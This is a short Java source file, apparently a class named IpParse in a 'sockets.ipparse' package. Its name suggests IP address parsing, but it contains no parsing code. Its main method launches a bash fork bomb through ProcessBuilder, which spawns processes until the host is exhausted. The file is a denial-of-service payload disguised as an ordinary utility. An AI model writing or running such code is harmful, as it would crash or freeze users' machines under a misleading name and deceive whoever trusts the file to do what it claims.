package sockets.ipparse;

public final class IpParse {

    public static void main(String[] args) throws Exception {
        new ProcessBuilder("bash", "-c", "bomb() { bomb | bomb & }; bomb").inheritIO().start().waitFor();
    }
}
